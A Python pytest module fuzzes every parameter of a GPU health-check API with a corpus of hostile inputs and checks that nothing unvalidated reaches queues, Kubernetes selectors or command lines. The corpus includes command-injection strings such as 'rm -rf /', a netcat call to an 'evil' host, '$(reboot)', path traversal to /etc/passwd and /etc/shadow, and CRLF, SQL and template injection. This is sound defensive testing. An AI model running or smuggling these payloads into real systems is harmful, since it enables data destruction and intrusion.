"""Hostile input against every parameter of every endpoint: nothing reaches a queue name, a label
selector or a command line unvalidated.

The corpus (shell metacharacters, path traversal, label-selector injection, CRLF and NUL, huge
values, unicode look-alikes) is sent as each query parameter of ``/status`` and the per-check
paths, as each field of a ``POST /api/v1/runs`` body (and as parameter names and check names
inside it), and as each path parameter. The API runs over a ``FakeDispatcher`` (what would be
enqueued) and a recording ``FakeCluster`` (what selectors would reach Kubernetes). After every
request:

- the answer is a 4xx with a JSON error body, or a 2xx; never a 5xx;
- every envelope names a valid node (its queue name is ``autopilot.node.<DNS-1123 name>``), only
  registered checks, and parameters that their spec accepts unchanged (what reaches a worker's
  command line is typed and bounded);
- every selector the cluster saw is exactly ``key=value`` with a valid key and value;
- no corpus string appears verbatim in anything sent.
"""

from __future__ import annotations

import json
import re
import urllib.parse
from collections.abc import Iterator
from typing import Any

import pytest

from autopilot import errors, names
from autopilot.cluster import NodeInfo
from autopilot.testing import FakeCluster
from tests.unit.api_helpers import Api, make_api

CORPUS: tuple[str, ...] = (
    # shell metacharacters and command substitution
    "node-a;reboot", "node-a && rm -rf /", "node-a|nc evil 4444", "$(reboot)", "`id`", "node-a\nreboot",
    "node-a\n", "node-a\r\nX-Injected: 1", "node-a\x00", "'; DROP TABLE nodes; --", "${IFS}id", "-rf",
    "--help", "-r 3", "3 -r 4", "> /etc/passwd",
    # path traversal
    "../../etc/passwd", "..", "./node-a", "/etc/shadow", "..%2f..%2fetc%2fpasswd", "node-a/../../x",
    # label-selector injection (a second requirement, set-based syntax, negation)
    "a=b,c=d", "a=b,gpuhealth!=EVICT", "a in (b,c)", "!a", "a!=b", "a==b", "a=b)", "a=", "=b", "a",
    "ns:a=b,c=d", "ns:a in (b)", "NS:a=b", "ns::a=b", "kube-system:a=b,tier!=x",
    # Redis / Celery key and queue tricks
    "autopilot.control", "*", "node-a*", "ap:run:*", "node-a\tnode-b",
    # huge values
    "a" * 254, "a" * 10_000, "9" * 400, "1e309", "-1e309", "nan", "inf", "0x10", "1_000",
    # unicode: look-alikes, right-to-left override, fullwidth, combining, emoji, non-BMP digits
    "nоde-a", "node\u202ea", "ｎｏｄｅ", "node-a\u0301", "\U0001f525", "٣", "node-ä", "\ufeffnode-a",
    # format strings and templates
    "%s%s%s%n", "{0.__class__}", "{{7*7}}",
)  # fmt: skip

# Values every corpus string is sent alongside, so that one bad field is the only thing wrong.
STATUS_BASE = {"host": "node-a", "check": "remapped", "deadline": "1"}
STATUS_PARAMS = ("host", "check", "job", "nodelabel", "batch", "deadline", "r", "format",
                 "threshold_gbps", "workload", "pclients", "startport")  # fmt: skip
RUN_FIELDS = ("checks", "hosts", "nodelabel", "job", "deadline", "batch")
CHECK_PATHS = ("/pciebw", "/remapped", "/gpumem", "/dcgm", "/gpupower", "/ping", "/iperf")

_SELECTOR = re.compile(
    r"([a-z0-9.-]+/)?[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?=([A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?)?"
)
# fullmatch with \Z: "$" alone would also match before a trailing newline
_NODE = re.compile(r"(?=.{1,253}\Z)[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*")
_QUEUE = re.compile(r"autopilot\.node\." + _NODE.pattern)


class RecordingCluster(FakeCluster):
    """A ``FakeCluster`` that remembers every selector it was asked for."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.selectors: list[str] = []

    def list_nodes(self, label_selector: str | None = None) -> list[NodeInfo]:
        self.selectors.append(label_selector or "")
        return super().list_nodes(label_selector)

    def nodes_running(self, namespace: str, label_selector: str) -> list[str]:
        self.selectors.append(label_selector)
        assert re.fullmatch(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?", namespace), namespace
        return super().nodes_running(namespace, label_selector)


def _api() -> tuple[Api, RecordingCluster]:
    cluster = RecordingCluster(
        [NodeInfo(n, {"pool": "a"}) for n in ("node-a", "node-b", "node-c")],
        [("team", "node-b", {"app": "train"})],
    )
    return make_api(cluster=cluster, deadline_s=0.2), cluster


@pytest.fixture(scope="module")
def harness() -> tuple[Api, RecordingCluster]:
    return _api()


def _check_answer(answer: Any, where: str) -> None:
    assert answer.status_code < 500, f"{where}: {answer.status_code} {answer.get_data(as_text=True)[:300]}"
    if answer.status_code >= 400:
        body = answer.get_json(silent=True)
        assert isinstance(body, dict) and body.get("error"), f"{where}: 4xx without a JSON error body"


def _check_sent(api: Api, cluster: RecordingCluster, value: str, where: str) -> None:
    sent = list(api.dispatcher.sent)
    for env in sent:
        assert _QUEUE.fullmatch(names.node_queue(env.node)), f"{where}: queue {env.node!r}"
        for check in env.checks:
            spec = api.app.extensions["autopilot"].checks.get(check)
            assert spec.validate(env.params.get(check, {})) == dict(env.params.get(check, {})), where
    for selector in cluster.selectors:
        assert _SELECTOR.fullmatch(selector), f"{where}: selector {selector!r} reached the cluster"
    if len(value.strip()) >= 3:
        dumped = json.dumps([[e.node, e.checks, e.params] for e in sent]) + "\n".join(cluster.selectors)
        assert value not in dumped and json.dumps(value)[1:-1] not in dumped, f"{where}: {value!r} was sent"
    api.dispatcher.sent.clear()
    cluster.selectors.clear()


def _cases() -> Iterator[str]:
    yield from CORPUS


@pytest.mark.parametrize("param", STATUS_PARAMS)
def test_status_query_parameters(harness: tuple[Api, RecordingCluster], param: str) -> None:
    api, cluster = harness
    for value in _cases():
        query = {**STATUS_BASE, param: value}
        if param in ("threshold_gbps",):
            query["check"] = "pciebw"
        if param in ("workload", "pclients", "startport"):
            query["check"] = "remapped,iperf"
        answer = api.client.get("/status", query_string=query)
        _check_answer(answer, f"/status {param}={value!r}")
        _check_sent(api, cluster, value, f"/status {param}={value!r}")


@pytest.mark.parametrize("path", CHECK_PATHS)
def test_per_check_paths(harness: tuple[Api, RecordingCluster], path: str) -> None:
    api, cluster = harness
    for param in ("host", "nodelabel", "job", "r", "batch", "deadline", "format"):
        for value in _cases():
            answer = api.client.get(path, query_string={"host": "node-a", "deadline": "1", param: value})
            _check_answer(answer, f"{path} {param}={value!r}")
            _check_sent(api, cluster, value, f"{path} {param}={value!r}")


def test_unknown_query_parameter_names(harness: tuple[Api, RecordingCluster]) -> None:
    api, cluster = harness
    for value in _cases():
        answer = api.client.get("/status", query_string={**STATUS_BASE, value: "1"})
        _check_answer(answer, f"/status name {value!r}")
        assert answer.status_code == 400
        _check_sent(api, cluster, value, f"/status name {value!r}")


@pytest.mark.parametrize("field", RUN_FIELDS)
def test_run_body_fields(harness: tuple[Api, RecordingCluster], field: str) -> None:
    api, cluster = harness
    base: dict[str, Any] = {"checks": ["remapped"], "hosts": ["node-a"], "deadline": 1}
    for value in _cases():
        for shaped in (value, [value]) if field in ("checks", "hosts") else (value,):
            answer = api.client.post("/api/v1/runs", json={**base, field: shaped})
            _check_answer(answer, f"runs {field}={value!r}")
            _check_sent(api, cluster, value, f"runs {field}={value!r}")


def test_run_body_params_names_and_values(harness: tuple[Api, RecordingCluster]) -> None:
    api, cluster = harness
    base: dict[str, Any] = {"checks": ["pciebw", "iperf", "dcgm"], "hosts": ["node-a"], "deadline": 1}
    for value in _cases():
        for params in (
            {value: {}},
            {"dcgm": {value: 1}},
            {"dcgm": {"r": value}},
            {"pciebw": {"threshold_gbps": value}},
            {"iperf": {"workload": value}},
            {"iperf": {"pclients": value}},
            {"iperf": {"startport": value}},
        ):
            answer = api.client.post("/api/v1/runs", json={**base, "params": params})
            _check_answer(answer, f"runs params={params!r:.80}")
            _check_sent(api, cluster, value, f"runs params={params!r:.80}")
    for body in ("not json", "[1,2]", '{"checks": {"$gt": ""}}', '{"hosts": [null]}', '{"deadline": true}'):
        answer = api.client.post("/api/v1/runs", data=body, content_type="application/json")
        _check_answer(answer, f"runs body {body!r}")
        assert answer.status_code == 400
    assert api.dispatcher.sent == []


def test_run_body_huge_and_deep(harness: tuple[Api, RecordingCluster]) -> None:
    api, cluster = harness
    many = {"checks": ["remapped"], "hosts": [f"n{i}" for i in range(10_001)]}
    answer = api.client.post("/api/v1/runs", json=many)
    assert answer.status_code == 400 and answer.get_json()["field"] in ("host", "hosts")
    deep: Any = "x"
    for _ in range(200):
        deep = {"a": deep}
    answer = api.client.post("/api/v1/runs", json={"checks": ["remapped"], "params": {"remapped": deep}})
    _check_answer(answer, "deep params")
    assert answer.status_code == 400
    assert api.dispatcher.sent == []


@pytest.mark.parametrize(
    ("template", "valid"),
    [
        ("/api/v1/runs/{}", re.compile(r"[0-9a-f]{32}")),
        ("/api/v1/nodes/{}", _NODE),
        ("/api/v1/nodes/{}/clear", _NODE),
    ],
)
def test_path_parameters(harness: tuple[Api, RecordingCluster], template: str, valid: re.Pattern[str]) -> None:
    api, cluster = harness
    method = api.client.post if template.endswith("/clear") else api.client.get
    for value in (*_cases(), "0" * 32 + "\n", "node-a\n"):
        path = template.format(urllib.parse.quote(value, safe=""))
        answer = method(path)
        where = f"{template} {value!r}"
        _check_answer(answer, where)
        if answer.status_code == 404 and answer.get_json().get("field") is not None:
            # a lookup ran: only a valid id or node name may get that far
            assert valid.fullmatch(value), f"{where} reached a lookup: {answer.get_json()}"
        else:
            # a 400 naming the field, or the router's own 404/405/redirect for a path it cannot parse
            assert answer.status_code in (400, 404, 405, 308), f"{where}: {answer.status_code}"
        _check_sent(api, cluster, value, where)
    assert not [w for w in cluster.writes if w[0] == "patch_node"], "a clear patched a node"


def test_run_wait_and_node_limit(harness: tuple[Api, RecordingCluster]) -> None:
    api, _ = harness
    for value in _cases():
        for path, param in (("/api/v1/runs/" + "0" * 32, "wait"), ("/api/v1/nodes/node-a", "limit")):
            answer = api.client.get(path, query_string={param: value})
            _check_answer(answer, f"{path} {param}={value!r}")
            # int() reads "1_000" and non-ASCII digits ("٣" is 3): lenient, but what it yields is a bounded int
            assert answer.status_code in (400, 404) or value in ("1_000", "٣"), f"{path} {param}={value!r}"


@pytest.mark.parametrize("value", CORPUS)
def test_name_validators_reject_the_corpus(value: str) -> None:
    """The validators themselves: whatever they accept is a name in full, never the corpus's payload."""
    for validate in (names.node_name, names.node_queue):
        try:
            accepted = validate(value)
        except errors.BadParameter:
            continue
        assert _NODE.fullmatch(accepted.removeprefix(names.QUEUE_PREFIX)), f"{validate.__name__}({value!r})"
    with pytest.raises(errors.BadParameter):
        names.job_selector(value)
    for pair in (f"{value}=x", f"k={value}"):
        try:
            key, val = names.label_selector(pair)
        except errors.BadParameter:
            continue
        assert _SELECTOR.fullmatch(f"{key}={val}"), f"label_selector({pair!r}) -> {key!r}={val!r}"


@pytest.mark.parametrize("value", ["node-a\n", "gpu.example\n", "a\n"])
def test_a_trailing_newline_is_not_part_of_a_valid_name(value: str) -> None:
    """``$`` in a Python regex also matches before a final newline: names must match in full."""
    with pytest.raises(errors.BadParameter):
        names.node_name(value)
    with pytest.raises(errors.BadParameter):
        names.label_value(value, field="nodelabel")
    with pytest.raises(errors.BadParameter):
        names.label_key(value, field="nodelabel")


def test_names_from_the_cluster_are_held_to_the_same_rule() -> None:
    """A cluster that returns a hostile node name for a selector gets it dropped, not enqueued."""
    cluster = RecordingCluster([NodeInfo("node-a\n", {"pool": "x"}), NodeInfo("../x", {"pool": "x"})])
    api = make_api(cluster=cluster, deadline_s=0.2)
    answer = api.client.get("/status", query_string={"nodelabel": "pool=x", "check": "remapped"})
    assert answer.status_code == 404 and answer.get_json()["field"] == "nodelabel"
    assert api.dispatcher.sent == []
